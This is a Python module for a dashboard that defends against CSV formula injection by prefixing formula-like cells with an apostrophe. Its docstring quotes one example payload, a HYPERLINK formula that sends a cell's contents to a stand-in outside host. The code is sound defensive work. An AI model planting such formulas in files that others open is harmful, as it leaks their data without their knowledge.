"""Every CSV the dashboard writes, written here: cells a spreadsheet would run as a formula are text.

A cell starting with = + - or @ (or a tab or carriage return, which some spreadsheets skip before
one) is a formula to Excel, LibreOffice and Google Sheets: a school's or an officer's name such as
=HYPERLINK("https://elsewhere/?"&A1) would send the sheet's cells away, or worse, when a coordinator
opens the file. Such a cell gets a leading apostrophe, which spreadsheets read as "this is text"
(OWASP's advice); a plain number (-3, +2, 12%) is left as it is, as no formula can hide in one.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?%?")


def spreadsheet_cell(value: str) -> str:
    """`value`, with an apostrophe in front if a spreadsheet would read it as a formula."""
    if value.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_text(headers: Sequence[str], rows: Iterable[Sequence[str]]) -> str:
    """A header line and rows, every cell made safe to open in a spreadsheet."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow([spreadsheet_cell(str(cell)) for cell in headers])
    writer.writerows([spreadsheet_cell(str(cell)) for cell in row] for row in rows)
    return out.getvalue()
